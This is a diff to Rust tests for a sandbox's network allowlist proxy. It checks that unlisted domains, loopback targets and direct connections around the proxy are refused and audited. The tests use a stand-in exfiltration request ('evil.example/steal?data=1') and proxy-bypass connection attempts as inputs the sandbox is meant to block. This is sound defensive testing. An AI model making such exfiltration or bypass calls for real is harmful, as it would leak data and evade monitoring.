@@ -40,11 +40,40 @@ fn egress_sandbox(ws: &std::path::Path, allow: &[&str], audit: Arc<dyn AuditSink
     Sandbox::new(cfg).expect("sandbox with egress")
 }
 
-fn curl(sb: &Sandbox, url: &str) -> (ExitStatus, String) {
-    let mut spec = CommandSpec::new(["curl", "-sS", "--max-time", "10", url]);
+/// Fetches a URL with python3's urllib (which honours HTTP(S)_PROXY like curl does); prints
+/// the HTTP status and body, or `ERR <reason>` with exit code 3.
+const FETCH: &str = r#"
+import sys, urllib.request, urllib.error
+try:
+    r = urllib.request.urlopen(sys.argv[1], timeout=10)
+    print(r.status); print(r.read().decode())
+except urllib.error.HTTPError as e:
+    print(e.code); print(e.read().decode())
+except Exception as e:
+    print("ERR", e); sys.exit(3)
+"#;
+
+/// Connects straight to host:port, ignoring any proxy settings.
+const CONNECT: &str = r#"
+import socket, sys
+try:
+    socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
+    print("CONNECTED")
+except Exception as e:
+    print("ERR", e); sys.exit(3)
+"#;
+
+fn py(sb: &Sandbox, script: &str, args: &[&str]) -> (ExitStatus, String) {
+    let mut argv = vec!["python3".to_string(), "-c".to_string(), script.to_string()];
+    argv.extend(args.iter().map(|s| s.to_string()));
+    let mut spec = CommandSpec::new(argv);
     spec.timeout = Duration::from_secs(20);
     let o = sb.run(&spec).unwrap();
     (o.status, format!("{}{}", out(&o), err(&o)))
+}
+
+fn fetch(sb: &Sandbox, url: &str) -> (ExitStatus, String) {
+    py(sb, FETCH, &[url])
 }
 
 #[test]
@@ -57,8 +86,11 @@ fn no_egress_by_default() {
     assert!(sb.level().contains("no network"));
     let o = sh(&sb, "env | grep -i proxy; true");
     assert_eq!(out(&o), "");
-    let (st, _) = curl(&sb, &format!("http://127.0.0.1:{PROXY_PORT}/"));
-    assert_ne!(st, ExitStatus::Exited(0));
+    let port = PROXY_PORT.to_string();
+    let (st, text) = py(&sb, CONNECT, &["127.0.0.1", &port]);
+    assert_ne!(st, ExitStatus::Exited(0), "{text}");
+    let (st, text) = fetch(&sb, "http://example.com/");
+    assert_ne!(st, ExitStatus::Exited(0), "{text}");
 }
 
 #[test]
@@ -69,16 +101,18 @@ fn unlisted_domain_is_refused_and_recorded() {
     let ws = workspace();
     let rec = Arc::new(Recorder::default());
     let sb = egress_sandbox(ws.path(), &["allowed.invalid"], rec.clone());
-    assert!(sb.level().contains("egress via allowlist proxy"));
+    assert!(sb.level().contains("egress via allowlist proxy (audited)"));
     let o = sh(&sb, "echo $HTTPS_PROXY");
     assert_eq!(out(&o).trim(), format!("http://127.0.0.1:{PROXY_PORT}"));
-    let (_, text) = curl(&sb, "http://evil.example/steal?data=1");
+    let (_, text) = fetch(&sb, "http://evil.example/steal?data=1");
+    assert!(text.starts_with("403"), "{text}");
     assert!(
         text.contains("not in the sandbox's domain allowlist"),
         "{text}"
     );
-    let (st, text) = curl(&sb, "https://evil.example/");
+    let (st, text) = fetch(&sb, "https://evil.example/");
     assert_ne!(st, ExitStatus::Exited(0), "{text}");
+    assert!(text.contains("403"), "{text}");
     let ev = rec.0.lock().unwrap();
     assert_eq!(ev.len(), 2, "{ev:?}");
     for e in ev.iter() {
@@ -104,9 +138,9 @@ fn allowed_name_resolving_to_loopback_is_refused() {
     let ws = workspace();
     let rec = Arc::new(Recorder::default());
     let sb = egress_sandbox(ws.path(), &["localhost"], rec.clone());
-    let (_, text) = curl(&sb, &format!("http://localhost:{port}/"));
+    let (_, text) = fetch(&sb, &format!("http://localhost:{port}/"));
     assert!(text.contains("non-public address"), "{text}");
-    let (_, text) = curl(&sb, &format!("http://127.0.0.1:{port}/"));
+    let (_, text) = fetch(&sb, &format!("http://127.0.0.1:{port}/"));
     assert!(text.contains("allowlist"), "{text}");
     assert!(
         host.accept().is_err(),
@@ -122,20 +156,14 @@ fn bypassing_the_proxy_has_no_route() {
     }
     let ws = workspace();
     let sb = egress_sandbox(ws.path(), &["example.com"], Arc::new(Recorder::default()));
-    for url in [
-        "http://1.1.1.1/",
-        "http://93.184.215.14/",
-        "http://127.0.0.1:80/",
+    for (host, port) in [
+        ("1.1.1.1", "80"),
+        ("93.184.215.14", "443"),
+        ("127.0.0.1", "80"),
+        ("10.0.0.1", "80"),
     ] {
-        let mut spec = CommandSpec::new(["curl", "-sS", "--noproxy", "*", "--max-time", "5", url]);
-        spec.timeout = Duration::from_secs(10);
-        let o = sb.run(&spec).unwrap();
-        assert_ne!(
-            o.status,
-            ExitStatus::Exited(0),
-            "{url} reachable: {}",
-            out(&o)
-        );
+        let (st, text) = py(&sb, CONNECT, &[host, port]);
+        assert_ne!(st, ExitStatus::Exited(0), "{host}:{port} reachable: {text}");
     }
 }
 
@@ -146,6 +174,6 @@ fn egress_is_refused_when_the_audit_log_fails() {
     }
     let ws = workspace();
     let sb = egress_sandbox(ws.path(), &["allowed.invalid"], Arc::new(Broken));
-    let (_, text) = curl(&sb, "http://evil.example/");
+    let (_, text) = fetch(&sb, "http://evil.example/");
     assert!(text.contains("audit log cannot be written"), "{text}");
 }
